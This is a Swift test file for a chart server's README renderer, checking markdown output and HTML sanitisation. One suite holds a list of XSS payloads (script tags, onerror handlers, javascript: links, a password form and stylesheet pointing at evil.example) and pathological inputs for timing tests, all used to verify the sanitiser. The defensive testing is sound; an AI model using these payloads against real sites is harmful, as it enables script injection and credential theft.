import Testing
import YareChart

@testable import YareServer

/// A README as a page shows it.
private func rendered(_ markdown: String) -> String {
    Readme(ChartFile(name: "README.md", bytes: Array(markdown.utf8))) { path in
        path == "values.yaml" ? "/web?tab=values" : nil
    }.content.html
}

struct ReadmeTests {
    @Test(arguments: [
        ("**bold** ~~gone~~", "<p><strong>bold</strong> <del>gone</del></p>\n"),
        (
            "- [x] done\n- [ ] open",
            "<ul>\n<li><span class=\"task\" role=\"img\" aria-label=\"done\">☑</span> done</li>\n"
                + "<li><span class=\"task\" role=\"img\" aria-label=\"to do\">☐</span> open</li>\n</ul>\n"
        ),
        ("# Web\n## Web", "<h2 id=\"readme-web\">Web</h2>\n<h3 id=\"readme-web-1\">Web</h3>\n"),
        ("[defaults](./values.yaml)", "<p><a href=\"/web?tab=values\">defaults</a></p>\n"),
        ("[up](../../secret)", "<p>up</p>\n"),
        ("[set](#My-Values)", "<p><a href=\"#readme-my-values\">set</a></p>\n"),
        ("a &amp; b < c", "<p>a &amp; b &lt; c</p>\n"),
        ("line one<br/>line two", "<p>line one<br>line two</p>\n"),
    ])
    func rendersMarkdown(_ markdown: String, _ html: String) {
        #expect(rendered(markdown) == html)
    }

    @Test func rendersTablesWithAlignment() {
        let html = rendered("| Key | Default |\n|:---|---:|\n| `a` | 1 |")
        #expect(html.hasPrefix("<div class=\"scroll\"><table>"))
        #expect(html.contains("<td class=\"right\">1</td>") && html.contains("<td><code>a</code></td>"))
    }

    @Test func showsImagesOfOtherHostsAsLinks() {
        #expect(
            rendered("![Logo](https://example.com/logo.png)")
                == "<p><a class=\"remote-image\" href=\"https://example.com/logo.png\" "
                + "rel=\"nofollow noopener noreferrer ugc\">Logo</a></p>\n")
        #expect(!rendered("[![Build](https://example.com/b.svg)](https://example.com)").contains("b.svg"))
    }

    @Test func showsOtherTextsAsTheyAre() {
        let readme = Readme(ChartFile(name: "README", bytes: Array("# <b>\n".utf8))) { _ in nil }
        #expect(readme.content.html == "<pre># &lt;b&gt;\n</pre>")
    }

    @Test func findsHeadings() {
        let readme = Readme(ChartFile(name: "readme.md", bytes: Array("## Set `a` & b\n".utf8))) { _ in nil }
        #expect(readme.content.headings == [ReadmeHeading(level: 3, text: "Set a & b", anchor: "readme-set-a--b")])
    }

    @Test func cutsLongTexts() {
        let readme = Readme(ChartFile(name: "README.md", bytes: Array(repeating: 0x61, count: 300 << 10))) { _ in nil }
        #expect(readme.isShortened && readme.content.html.utf8.count < 270 << 10)
    }
}

struct HostileReadmeTests {
    static let attacks = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">",
        "<svg onload=alert(1)><script>1</script></svg>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>", "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=' javascript:alert(1)'>x</a>", "[x](javascript:alert%281%29)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)", "<javascript:alert(1)>", "<iframe src=https://evil.example></iframe>",
        "<form action=https://evil.example><input name=password></form>", "<style>body{display:none}</style>",
        "<div style=\"position:fixed;inset:0\" onclick=alert(1)>x</div>", "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<object data=x></object>", "<embed src=x>",
        "<math><mtext></math><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->", "<p id=password name=location>x</p>", "<a name=location id=csrf>x</a>",
        "\"><img src=x onerror=alert(1)>", "![x](https://evil.example/\"onerror=alert(1)//)",
        "<video src=https://evil.example autoplay></video>", "<image src=x onerror=alert(1)>", "<body onload=alert(1)>",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\" target=_blank>x</a>",
        "<template><script>1</script></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
        "<a href=`javascript:alert(1)`>x</a>", "<p/onclick=alert(1)>x", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    ]

    /// Whatever is written in, only the elements, attributes and addresses come out that a README may have.
    @Test(arguments: attacks)
    func comesOutHarmless(_ attack: String) {
        for text in [attack, "text " + attack, "# " + attack, "| a |\n|---|\n| \(attack) |", "- \(attack)"] {
            HarmlessHTML.check(rendered(text))
        }
    }

    @Test func keepsTheTextAroundAnAttack() {
        #expect(rendered("before <script>alert(1)</script> after") == "<p>before  after</p>\n")
        #expect(rendered("<b onclick=x>bold</b>") == "<p><b>bold</b></p>\n")
    }

    @Test func closesWhatIsLeftOpen() {
        #expect(rendered("<details><summary>More") == "<details><summary>More\n</summary></details>")
        #expect(rendered("</div></section></main>text</p>") == "text\n")
    }

    @Test(
        arguments: [
            String(repeating: "<div><blockquote><ul><li>", count: 20_000), String(repeating: "> ", count: 50_000) + "x",
            String(repeating: "[", count: 100_000), String(repeating: "![](", count: 50_000),
            String(repeating: "*a **a ", count: 30_000), String(repeating: "<!--", count: 60_000),
            String(repeating: "<a href='", count: 20_000), String(repeating: "`", count: 100_000) + "a",
            String(repeating: "&", count: 200_000), String(repeating: "- ", count: 3_000) + "x",
            String(repeating: "a@", count: 100_000),
            String(repeating: "|", count: 100_000) + "\n" + String(repeating: "|-", count: 50_000),
            "| a |\n|---|\n" + String(repeating: "|" + String(repeating: "|", count: 200) + "\n", count: 1_000),
            String(repeating: "![[]()", count: 40_000),
            "|" + String(repeating: "a|", count: 400) + "\n|" + String(repeating: "-|", count: 400) + "\n"
                + String(repeating: "|\n", count: 60_000),
            String(repeating: "<x ", count: 80_000), String(repeating: "_", count: 100_000) + "a",
        ].map(LongText.init))
    func takesLittleTime(_ long: LongText) {
        let text = long.text
        let clock = ContinuousClock()
        let time = clock.measure { HarmlessHTML.check(rendered(text)) }
        #expect(time < .seconds(20), "\(text.prefix(10)) took \(time)")
    }
}

/// Reads HTML as strictly as it ought to have been written.
enum HarmlessHTML {
    private static let elements: Set<String> = HTMLElements.plain.union([
        "a", "div", "span", "table", "td", "th", "ol", "br", "hr", "h2", "h3", "h4", "h5", "h6",
    ])
    private static let attributes: Set<String> = [
        "href", "rel", "class", "id", "role", "aria-label", "start", "colspan", "rowspan",
    ]
    private static let unclosed: Set<String> = ["br", "hr"]

    /// Expects that only allowed elements, attributes and addresses occur, and that every element is closed.
    static func check(_ html: String, sourceLocation: SourceLocation = #_sourceLocation) {
        var open: [Substring] = []
        var problems: [String] = []
        for piece in html.split(separator: "<", omittingEmptySubsequences: false).dropFirst() {
            guard let end = piece.firstIndex(of: ">") else {
                problems.append("unfinished tag <\(piece.prefix(40))")
                continue
            }
            let tag = piece[..<end]
            if tag.hasPrefix("/") {
                if open.popLast() != tag.dropFirst() { problems.append("</\(tag)> closes nothing") }
                continue
            }
            let name = tag.prefix { $0 != " " }
            if !elements.contains(String(name)) { problems.append("element \(name)") }
            if !unclosed.contains(String(name)) { open.append(name) }
            problems += wrongAttributes(tag.dropFirst(name.count))
        }
        if !open.isEmpty { problems.append("open: \(open.prefix(5))") }
        #expect(problems.isEmpty, "\(problems.prefix(3)) in \(html.prefix(300))", sourceLocation: sourceLocation)
    }

    private static func wrongAttributes(_ text: Substring) -> [String] {
        var problems: [String] = []
        var rest = text
        while let equals = rest.firstIndex(of: "=") {
            let name = rest[..<equals].drop { $0 == " " }
            let value = rest[equals...].dropFirst(2).prefix { $0 != "\"" }
            if !attributes.contains(String(name)) { problems.append("attribute \(name)") }
            let isAddress = ["https://", "http://", "mailto:", "#readme-", "/web"].contains { value.hasPrefix($0) }
            if name == "href", !isAddress { problems.append("address \(value)") }
            if name == "id", !value.hasPrefix("readme-") { problems.append("id \(value)") }
            rest = rest[value.endIndex...].dropFirst()
        }
        return problems
    }
}

/// A text too long to be named after itself.
struct LongText: Sendable, CustomTestStringConvertible {
    let text: String

    var testDescription: String { "\(text.prefix(24))… (\(text.utf8.count) bytes)" }
}
